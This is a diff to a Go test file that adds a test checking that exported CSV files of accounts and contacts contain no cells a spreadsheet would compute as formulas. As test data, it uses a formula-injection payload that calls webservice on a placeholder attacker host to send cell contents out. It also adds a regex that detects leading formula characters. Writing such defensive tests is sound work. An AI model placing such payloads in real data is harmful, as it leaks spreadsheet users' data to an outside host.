@@ -7,6 +7,7 @@ import (
 	"io/fs"
 	"os"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -224,6 +225,41 @@ func TestWhatIsExportedIsImportedOnPostgres(t *testing.T) {
 		t.Fatal(err)
 	}
 	testRoundTrip(t, open(t, server.URL(name)), "all.jsonl")
+}
+
+// People choose their addresses and names themselves. A spreadsheet must not compute them, wherever it
+// takes a new cell to begin.
+func TestNoCellIsComputed(t *testing.T) {
+	const formula = `=webservice("http://evil.example/"&d2)&@x.example`
+	w := world{
+		Accounts: []store.Account{blank(formula, "Bob;=1+1"), blank("b@example.com", "smile ;)")},
+		AllLists: []store.Lists{{Owner: formula, People: []store.Entry{{Handle: formula, Name: "a; @b", Lists: im.Forward, Groups: []int{0}}}}},
+	}
+	dir := w.export(t, t.TempDir(), "all/")
+	for _, name := range []string{"accounts.csv", "contacts.csv"} {
+		b, err := os.ReadFile(filepath.Join(dir, name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if found := regexp.MustCompile(`(^|[\n,;"])\s*[=+@-].*`).Find(b); found != nil {
+			t.Errorf("%s: a spreadsheet computes %s", name, found)
+		}
+	}
+	s := openNew(t)
+	if sum, err := importInto(t, s, dir, nil); err != nil {
+		t.Fatalf("%v: %+v", err, sum.Findings)
+	}
+	if diff := gocmp.Diff(w, worldOf(t, s), same); diff != "" {
+		t.Error(diff)
+	}
+}
+
+// blank is an account of which everything is as usual.
+func blank(handle, name string) store.Account {
+	return store.Account{
+		Handle: handle, Name: &name, Disabled: ptr(false), LockReason: ptr(""), LockedUntil: ptr(int64(0)), PasswordHash: ptr(""), Role: ptr(im.NoRole),
+		Created: ptr(int64(1)), Prompt: ptr(im.Ask), Policy: ptr(im.AllowOthers), Groups: []im.Group{{Number: 0, Name: "Other Contacts"}},
+	}
 }
 
 func TestAnExportIsNotWrittenOverAFile(t *testing.T) {
